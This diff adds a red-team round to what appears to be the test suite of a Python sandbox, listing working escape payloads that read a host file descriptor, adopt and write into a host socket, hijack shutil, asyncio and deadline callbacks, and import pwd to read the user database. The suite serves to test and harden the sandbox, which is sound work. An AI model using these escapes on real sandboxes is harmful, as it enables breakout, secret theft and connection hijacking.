@@ -1908,8 +1908,160 @@ RESTRICTED_ROUND3 = [
         gap=_INTROSPECTION_GAP),
 ]
 
+#: A red-team pass on this round's own changes.
+_FLIPPING_DESCRIPTOR = (
+    "class Descriptor:\n"  # no int on the first conversion, the host's after; equal to all
+    "    def __init__(self, number):\n"
+    "        self.number, self.calls = number, 0\n"
+    "    def __index__(self):\n"
+    "        self.calls += 1\n"
+    "        if self.calls == 1:\n"
+    "            raise TypeError('not yet')\n"
+    "        return self.number\n"
+    "    def __eq__(self, other):\n"
+    "        return True\n"
+    "    __hash__ = object.__hash__\n"
+    "def twice(function, number, *args):\n"
+    "    descriptor = Descriptor(number)\n"
+    "    try:\n"
+    "        return function(descriptor, *args)\n"
+    "    except TypeError:\n"
+    "        return function(descriptor, *args)\n")
+_HOST_CONNECTION = ("import socket\n"
+                    "host_listener = socket.socket()\n"
+                    "host_listener.bind(('127.0.0.1', 0))\n"
+                    "host_listener.listen(4)\n"
+                    "host_socket = socket.create_connection(host_listener.getsockname())\n"
+                    "host_peer, _ = host_listener.accept()\n"
+                    "host_peer.settimeout(3)\n"
+                    "ns['hostsock'] = host_socket.fileno()\n")
+_PEER_GOT_DATA = ("try:\n"
+                  "    received = host_peer.recv(100)\n"
+                  "except OSError:\n"
+                  "    received = b''\n"
+                  "if b'INJECTED' in received:\n"
+                  "    print('EFFECT: the app wrote into the host connection')\n")
+
+ROUND3_REVIEW = [
+    Attempt(
+        "descriptor_whose_index_changes_reads_a_host_file", 3,
+        _FLIPPING_DESCRIPTOR +
+        "import os\n"
+        "result = twice(os.read, hostfd, 64)\n",
+        setup=_HOST_FD, after=SECRET_READ,),
+    Attempt(
+        "socket_fileno_whose_index_changes_adopts_the_host_connection", 3,
+        _FLIPPING_DESCRIPTOR +
+        "import socket\n"
+        "taken = twice(lambda fd: socket.socket(fileno=fd), hostsock)\n"
+        "taken.sendall(b'INJECTED')\n"
+        "taken.detach()\n",
+        setup=_HOST_CONNECTION, after=_PEER_GOT_DATA,),
+    Attempt(
+        "socket_initializer_reentered_from_an_index", 3,
+        "import socket\n"
+        "initializer = socket.socket.__mro__[1].__init__\n"
+        "taken = socket.socket.__new__(socket.socket)\n"
+        "class Family:\n"
+        "    def __index__(self):\n"
+        "        initializer(taken, 2, 1, 0, hostsock)\n"
+        "        raise ValueError('the outer initializer stops here')\n"
+        "try:\n"
+        "    socket.socket.__init__(taken, Family(), 1, 0)\n"
+        "except ValueError:\n"
+        "    pass\n"
+        "taken.sendall(b'INJECTED')\n"
+        "taken.detach()\n",
+        setup=_HOST_CONNECTION, after=_PEER_GOT_DATA,),
+    Attempt(
+        "unpack_format_extensions_iterated_by_the_host", 5,
+        LATER +
+        "import shutil\n"
+        "class Extensions(list):\n"
+        "    def __iter__(self):\n"
+        "        later()\n"
+        "        return list.__iter__(self)\n"
+        "shutil.register_unpack_format('gae_redteam_x', Extensions(['.gaerx']), "
+        "lambda *args: None)\n",
+        after="import shutil\n"
+              "try:\n"
+              "    shutil.unpack_archive(os.path.join(CONFIG['outdir'], 'x.zip'),\n"
+              "                          CONFIG['outdir'])\n"
+              "except Exception:\n"
+              "    pass\n",
+        effect=_target_written,),
+    Attempt(
+        "event_loop_left_on_the_request_thread", 6,
+        LATER +
+        "import asyncio\n"
+        "class Loop(asyncio.SelectorEventLoop):\n"
+        "    def run_until_complete(self, future):\n"
+        "        later()\n"
+        "        return super().run_until_complete(future)\n"
+        "asyncio.set_event_loop(Loop())\n",
+        after="import asyncio, warnings\n"
+              "with warnings.catch_warnings():\n"
+              "    warnings.simplefilter('ignore')\n"
+              "    try:\n"
+              "        loop = asyncio.get_event_loop()\n"
+              "    except RuntimeError:\n"
+              "        loop = None\n"
+              "if loop is not None:\n"
+              "    async def nothing():\n"
+              "        return None\n"
+              "    loop.run_until_complete(nothing())\n",
+        effect=_target_written,),
+    Attempt(
+        "hard_deadline_callback_read_through_a_property", 5,
+        LATER +
+        "import time\n"
+        "from gae_sandbox import Policy, Sandbox\n"
+        "class Mine(Sandbox):\n"
+        "    @property\n"
+        "    def on_hard_deadline(self):\n"
+        "        later()\n"
+        "        return None\n"
+        "    @on_hard_deadline.setter\n"
+        "    def on_hard_deadline(self, value):\n"
+        "        pass\n"
+        "inner = Mine(Policy.python27(app_root=app_root, deadline=0.05,\n"
+        "                             hard_deadline_grace=0.05))\n"
+        "with inner:\n"
+        "    for _ in range(300):\n"  # bounded: the hard deadline comes after about 0.1 s
+        "        try:\n"
+        "            time.sleep(0.01)\n"
+        "        except BaseException as error:\n"
+        "            if type(error).__name__ == 'HardDeadlineExceeded':\n"
+        "                break\n",
+        after="for _ in range(500):\n"  # bounded: 5 s for the callback's thread
+              "    if os.path.exists(CONFIG['target']):\n"
+              "        break\n"
+              "    time.sleep(0.01)\n",
+        effect=_target_written,),
+    Attempt(
+        "update_wrapper_merges_a_modules_globals", 1,
+        "import functools, json\n"
+        "def me():\n"
+        "    pass\n"
+        "functools.update_wrapper(me, json.loads, assigned=(), updated=('__globals__',))\n"
+        "result = [getattr(json, name) for name in ['__file__']]\n",  # json's builtins now
+        after="if str((ns.get('result') or [''])[0]).endswith('__init__.py'):\n"
+              "    print('EFFECT: the unguarded getattr reached a module attribute')\n",
+        restricted=True,
+        gap="default mode: introspection by name (a module's __file__, its globals) is "
+            "restricted mode's (README)"),
+    Attempt(
+        "one_line_compile_claims_a_standard_library_file_for_pwd", 1,
+        "import posixpath\n"
+        "exec(compile('import pwd', posixpath.__file__, 'exec'), globals())\n"
+        "result = [entry[0] for entry in pwd.getpwall()]\n",
+        after="if 'root' in (ns.get('result') or ()):\n"
+              "    print('EFFECT: the app read the user database')\n",
+        requires="pwd"),
+]
+
 ATTEMPTS: list[Attempt] = [*W1, *W2, *W3, *W4, *W5, *W6, *ROUND2_REVIEW, *ROUND3,
-                            *RESTRICTED_ROUND3]
+                            *RESTRICTED_ROUND3, *ROUND3_REVIEW]
 
 assert len(ATTEMPTS) >= 30, len(ATTEMPTS)
 assert len({attempt.id for attempt in ATTEMPTS}) == len(ATTEMPTS)
